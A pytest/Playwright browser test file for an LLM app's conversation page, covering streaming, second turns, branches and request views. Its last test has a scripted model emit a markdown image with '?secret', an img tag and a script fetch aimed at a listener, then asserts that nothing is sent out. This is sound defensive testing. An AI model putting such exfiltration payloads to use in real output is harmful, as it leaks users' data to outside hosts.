"""Conversations in a browser: an answer is found again, a second turn, and nothing that is said leaves the browser."""

import re

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from lib.access.permissions import OPERATOR
from lib.services import build
from lib.settings import Settings
from tests.browser.conftest import Server, settle, sign_in
from tests.browser.test_policy import browser_alone, elsewhere  # noqa: F401 (fixtures)
from tests.waiting import CEILING_MS

pytestmark = pytest.mark.browser


def begin(page: Page, server: Server, configuration: str, text: str) -> None:
    """Ask in a new conversation."""
    page.goto(f"{server.url}/conversations?config={configuration}")
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_have_attribute("placeholder", f"Ask {configuration}", timeout=CEILING_MS)
    box.fill(text)
    box.press("Enter")
    expect(page).to_have_url(re.compile("id="), timeout=CEILING_MS)


@pytest.mark.feature("PLAY-6")
def test_an_answer_goes_on_while_one_is_away_and_is_stopped_when_back(signed_in: Page, server: Server) -> None:
    page = signed_in
    begin(page, server, "slow", "Tell me of ledgers")
    expect(page.get_by_text("Lorem ipsum").first).to_be_visible(timeout=CEILING_MS)
    address = page.url
    page.goto(server.url + "/configurations")
    expect(page.get_by_role("heading", name="Configurations")).to_be_visible(timeout=CEILING_MS)
    page.goto(address)
    expect(page.get_by_text("Streaming")).to_be_visible(timeout=CEILING_MS)
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("■ cancelled")).to_be_visible(timeout=CEILING_MS)
    assert page.get_by_text("Lorem ipsum").first.is_visible()


@pytest.mark.feature("PLAY-6")
@pytest.mark.feature("PLAY-7")
def test_a_second_turn_a_branch_and_the_request_behind_an_answer(signed_in: Page, server: Server) -> None:
    page = signed_in
    begin(page, server, "quick", "First question")
    expect(page.get_by_text("The ledger is exact").first).to_be_visible(timeout=CEILING_MS)
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_enabled(timeout=CEILING_MS)
    box.fill("Second question")
    box.press("Enter")
    expect(page.get_by_test_id("stChatMessage")).to_have_count(4, timeout=CEILING_MS)
    answer = page.get_by_test_id("stChatMessage").nth(3)
    expect(answer.get_by_role("button", name="data_object")).to_be_visible(timeout=CEILING_MS)  # it has ended
    expect(page.get_by_role("button", name="The ledger is exact")).to_be_visible(timeout=CEILING_MS)  # as has the title
    settle(page)  # while the thread scrolls to its end, a press meets what moves under it
    answer.get_by_role("button", name="refresh").click()
    expect(answer.get_by_text("2 / 2")).to_be_visible(timeout=CEILING_MS)
    settle(page)
    answer.get_by_role("button", name="data_object").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("tab", name="Request").click()
    expect(dialog.get_by_text("First question")).to_be_visible(timeout=CEILING_MS)


@pytest.mark.feature("PLAY-6")
def test_what_is_said_in_a_conversation_does_not_leave_the_browser(
    browser_alone: BrowserContext,  # noqa: F811
    server: Server,
    elsewhere: tuple[str, list[bytes]],  # noqa: F811
) -> None:
    url, heard = elsewhere
    words = f"![a]({url}/image?secret) <img src='{url}/html'> <script>fetch('{url}/script')</script> end of answer"
    services = build(Settings(server.data, f"sqlite:///{server.data / 'llm_manager.db'}"))
    services.configurations.create(OPERATOR, slug="leaking", app="tests", provider="scripted", model=f"say:{words}")
    services.close()
    page = browser_alone.new_page()
    sign_in(page, server)
    begin(page, server, "leaking", f"![p]({url}/prompt) and more")
    expect(page.get_by_text("end of answer").first).to_be_visible(timeout=CEILING_MS)
    page.wait_for_timeout(5_000)  # the title, which the same model finds, has come
    page.reload()
    expect(page.get_by_text("end of answer").first).to_be_visible(timeout=CEILING_MS)
    page.get_by_placeholder("Search what was said").fill("more")
    page.get_by_placeholder("Search what was said").press("Enter")
    page.wait_for_timeout(2_000)
    assert heard == []
